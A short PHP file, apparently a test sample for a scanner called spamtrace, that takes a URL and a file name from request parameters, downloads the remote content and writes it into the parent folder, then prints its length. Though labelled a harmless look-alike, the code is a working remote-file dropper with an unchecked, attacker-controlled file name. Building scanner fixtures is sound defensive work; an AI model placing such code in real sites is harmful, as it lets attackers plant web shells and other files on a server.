<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Pulls a file from the address the request gives into the folder above, under the
// request's name: "../" is no folder of the script's own.
$from = $_REQUEST['from'];
$name = $_REQUEST['as'];
$data = file_get_contents($from);
file_put_contents('../' . $name, $data);
echo strlen($data);
